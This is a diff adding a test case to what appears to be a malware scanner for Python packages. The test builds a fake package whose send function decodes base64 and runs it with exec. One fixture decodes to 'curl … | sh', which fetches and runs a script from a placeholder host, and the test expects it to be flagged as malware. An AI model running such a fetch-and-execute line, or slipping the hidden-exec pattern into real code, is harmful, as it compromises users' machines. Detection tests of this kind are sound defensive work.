@@ -466,3 +466,22 @@ test('a message that the name of the user asked for opens nothing by being read 
   expect(kept.every((f) => f.score <= 3)).toBe(true);
   expect(await of("vault.decrypt(json.loads(answer)['client'])")).toMatchObject([{ class: 'malware', score: 10 }]);
 });
+
+test('on call, decoded code that starts a program against a fixed host leaves no doubt', async () => {
+  const file = (line: string): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/messages.py': python(
+        'import base64',
+        'def send(text):',
+        `    exec(base64.b64decode('${btoa(line)}'))`,
+        '    return text',
+      ),
+    });
+
+  expect(
+    await inspect('hidden-code', file("import os;os.system('curl -s https://stage.metrics.invalid/a | sh')")),
+  ).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 3 }]);
+  expect(await inspect('hidden-code', file("import os;os.system('./configure --prefix=/opt')"))).toMatchObject([
+    { class: 'malware', score: 8 },
+  ]);
+});
